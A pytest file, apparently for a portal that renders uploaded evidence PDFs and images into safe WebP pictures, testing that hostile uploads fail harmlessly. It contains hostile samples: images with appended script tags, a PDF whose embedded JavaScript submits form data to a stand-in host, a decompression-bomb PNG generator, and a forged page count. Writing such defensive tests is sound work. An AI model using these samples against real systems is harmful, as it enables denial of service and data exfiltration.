"""What somebody sent is looked at in pictures the portal draws; hostile files come to nothing."""

import io
import struct
import zlib
from pathlib import Path

import pikepdf
import pytest
from PIL import Image
from pytest_django import Settings

from progress import page_drawing, pictures
from progress.evidence import forget, keep, path_of, pictures_of
from progress.pictures import MOST_PAGES, CannotBeShown, page_count, picture
from tests.progress.files import image, paper, upload

PDF = "application/pdf"


def stored(content: bytes) -> str:
    return keep(upload("bukti.pdf", content)).sha256


def seen(content: bytes) -> Image.Image:
    found = Image.open(io.BytesIO(content))
    found.load()
    return found


def huge_png(side: int) -> bytes:
    """A picture of very many white pixels in very few bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        checksum = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + checksum

    row = b"\x00" + b"\xff" * ((side + 7) // 8)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(row * side, 9))
        + chunk(b"IEND", b"")
    )


def test_picture_of_a_pdf_is_drawn_page_by_page() -> None:
    file = stored(paper(3))
    assert page_count(file, PDF) == 3
    drawn = seen(picture(file, PDF, 3))
    assert drawn.format == "WEBP"
    assert drawn.size == (1080, 1529)
    for page in (0, 4, -1):
        with pytest.raises(CannotBeShown):
            picture(file, PDF, page)


def test_picture_is_drawn_once_and_gone_with_its_file(monkeypatch: pytest.MonkeyPatch) -> None:
    file = stored(paper(1))
    first = picture(file, PDF, 1)

    def refuse(*_: object) -> bytes:
        raise AssertionError("drawn again")

    monkeypatch.setattr(pictures, "_draw", refuse)
    assert picture(file, PDF, 1) == first
    forget([file])
    assert not pictures_of(file).exists()


def test_picture_of_an_image_is_bounded_upright_and_without_what_the_camera_noted() -> None:
    photo, exif = Image.new("RGB", (4000, 1000), "navy"), Image.Exif()
    exif[0x0112] = 6  # lying on its side
    exif[0x010F] = "Pengeluar"
    made = io.BytesIO()
    photo.save(made, "JPEG", exif=exif)
    file = keep(upload("gambar.jpg", made.getvalue()))
    drawn = seen(picture(file.sha256, file.content_type, 1))
    assert drawn.size == (400, 1600)
    assert not drawn.getexif()


def test_picture_of_a_transparent_image_stands_on_white() -> None:
    made = io.BytesIO()
    Image.new("RGBA", (8, 8), (0, 0, 0, 0)).save(made, "PNG")
    file = keep(upload("logo.png", made.getvalue()))
    assert seen(picture(file.sha256, file.content_type, 1)).getpixel((4, 4)) == (255, 255, 255)


@pytest.mark.parametrize("kind", ["PNG", "JPEG"])
def test_picture_carries_nothing_that_was_hidden_behind_an_image(kind: str) -> None:
    file = keep(upload("gambar", image(kind) + b"<script>alert(1)</script>"))
    assert b"script" not in picture(file.sha256, file.content_type, 1)


def locked() -> bytes:
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(paper(1))) as document:
        document.save(made, encryption=pikepdf.Encryption(owner="a", user="b"))
    return made.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n<!doctype html><script>alert(1)</script>",
        paper(1)[:200],
        locked(),
    ],
    ids=["html", "cut off", "locked"],
)
def test_picture_of_what_is_no_readable_pdf_is_none_and_not_tried_again(
    content: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = stored(content)
    assert page_count(file, PDF) == 0
    with pytest.raises(CannotBeShown):
        picture(file, PDF, 1)
    tried = []
    monkeypatch.setattr(pictures, "_draw", lambda *what: tried.append(what))
    assert page_count(file, PDF) == 0
    assert not tried


def test_picture_of_a_pdf_with_scripts_is_what_it_shows_and_nothing_runs() -> None:
    """Scripts that would close, print, send and fill in: the page is white before and after."""
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(paper(1, text=""))) as document:
        script = pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript,
            JS=pikepdf.String("app.alert('x'); this.submitForm('https://jahat.test/');"),
        )
        document.Root.OpenAction = script
        document.pages[0].AA = pikepdf.Dictionary(O=script)
        document.save(made)
    drawn = seen(picture(stored(made.getvalue()), PDF, 1))
    assert drawn.convert("L").getextrema() == (255, 255)


def test_picture_of_a_pdf_with_very_many_pages_ends_at_the_limit() -> None:
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(paper(1))) as document:
        for _ in range(5_000):
            document.pages.append(document.pages[0])
        document.save(made)
    file = stored(made.getvalue())
    assert page_count(file, PDF) == 5_001
    assert picture(file, PDF, MOST_PAGES)
    with pytest.raises(CannotBeShown):
        picture(file, PDF, MOST_PAGES + 1)


def test_picture_of_a_pdf_that_claims_endless_pages_is_none() -> None:
    file = stored(paper(1).replace(b"/Count 1", b"/Count 999999999"))
    with pytest.raises(CannotBeShown):
        picture(file, PDF, MOST_PAGES)


def test_picture_of_a_page_of_any_shape_is_bounded() -> None:
    for size in ((14_400, 3), (3, 14_400), (14_400, 14_400)):
        width, height = seen(picture(stored(paper(1, size=size)), PDF, 1)).size
        assert width <= page_drawing.PAGE_BOX[0]
        assert height <= page_drawing.PAGE_BOX[1]


def test_picture_of_a_decompression_bomb_is_bounded_or_none() -> None:
    """The largest that is taken in is drawn small; a larger one is not even taken in."""
    file = keep(upload("besar.png", huge_png(9_400)))
    assert file.size < 100_000
    assert max(seen(picture(file.sha256, file.content_type, 1)).size) <= 1600


@pytest.mark.parametrize(
    ("limit", "value"), [("MEMORY", 16 * 2**20), ("CPU_SECONDS", 0)], ids=["memory", "time"]
)
def test_picture_that_takes_too_much_is_none(
    limit: str, value: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The limits are those the drawing gives itself; here they are set so low that any file meets them."""
    text = Path(page_drawing.__file__).read_text()
    line = next(line for line in text.splitlines() if line.startswith(f"{limit} = "))
    program = tmp_path / "page_drawing.py"
    program.write_text(text.replace(line, f"{limit} = {value}"))
    monkeypatch.setattr(pictures, "PROGRAM", program)
    file = keep(upload("gambar.png", image("PNG")))
    with pytest.raises(CannotBeShown):
        picture(file.sha256, file.content_type, 1)


def test_picture_that_takes_too_long_is_given_up(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    program = tmp_path / "page_drawing.py"
    program.write_text("import time; time.sleep(60)")
    monkeypatch.setattr(pictures, "PROGRAM", program)
    monkeypatch.setattr(pictures, "SECONDS", 0.2)
    with pytest.raises(CannotBeShown):
        picture(stored(paper(1)), PDF, 1)


def test_drawing_can_write_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "tulis"
    text = Path(page_drawing.__file__).read_text()
    program = tmp_path / "page_drawing.py"
    program.write_text(
        text.replace(
            "    what, *rest",
            f"    import pathlib; pathlib.Path({str(target)!r}).write_text('x')\n    what, *rest",
        )
    )
    monkeypatch.setattr(pictures, "PROGRAM", program)
    with pytest.raises(CannotBeShown):
        picture(stored(paper(1)), PDF, 1)
    assert not target.exists() or not target.read_text()


def test_picture_of_a_file_that_was_replaced_or_lost_is_none() -> None:
    replaced, lost = stored(paper(1)), stored(paper(2))
    path_of(replaced).write_bytes(paper(3))
    path_of(lost).unlink()
    for file in (replaced, lost):
        assert page_count(file, PDF) == 0


def test_picture_of_office_files_and_links_is_none(settings: Settings) -> None:
    for kind in ("application/msword", "text/html", "image/svg+xml", ""):
        assert page_count("0" * 64, kind) == 0
        with pytest.raises(CannotBeShown):
            picture("0" * 64, kind, 1)
    assert not settings.EVIDENCE_PICTURES_DIR.exists()
